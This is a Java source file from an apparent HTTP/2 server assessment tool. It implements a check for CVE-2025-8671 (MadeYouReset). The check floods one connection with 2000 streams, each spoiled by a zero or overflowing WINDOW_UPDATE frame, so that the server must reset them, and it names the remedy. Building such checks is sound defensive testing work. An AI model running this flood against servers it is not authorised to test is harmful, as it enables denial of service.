package dev.countersign.assessment;

import java.io.IOException;
import java.security.GeneralSecurityException;
import java.util.List;

/** Breaks each stream so that the server must reset it, again and again. */
final class ServerResets extends Abuse {
  private static final int BATCHES = 40;
  private static final int PER_BATCH = 50;

  private final int increment;

  private ServerResets(String name, String tries, int increment) {
    super(About.of(name, Group.PROTOCOL, Severity.HIGH)
        .tries("2000 requests on one connection, each spoiled by " + tries + ", so that the server"
            + " resets it.")
        .safe("The connection is ended long before all were sent.")
        .source("CVE-2025-8671 (MadeYouReset)")
        .remedy("Bound the resets of a connection in both directions (grpc-java:"
            + " maxRstFramesPerWindow)."));
    this.increment = increment;
  }

  static List<Check> all() {
    return List.of(
        new ServerResets("made-you-reset", "a window update of 0", 0),
        new ServerResets(
            "made-you-reset-by-overflow", "a window update that overflows", Integer.MAX_VALUE));
  }

  @Override
  boolean isToBeBrokenOff() {
    return true;
  }

  @Override
  Outcome misbehave(Attack attack)
      throws IOException, GeneralSecurityException, InterruptedException, CannotRunException {
    byte[] update = java.nio.ByteBuffer.allocate(4).putInt(increment).array();
    try (RawHttp2 connection = attack.connect()) {
      return Flood.of(connection, BATCHES, (to, number) -> {
            for (int i = 0; i < PER_BATCH; i++) {
              int stream = to.newStream();
              to.request(stream, attack.path()).frame(Frame.WINDOW_UPDATE, 0, stream, update);
            }
          })
          .mustBeCut(BATCHES * PER_BATCH + " streams that the server had to reset");
    }
  }
}
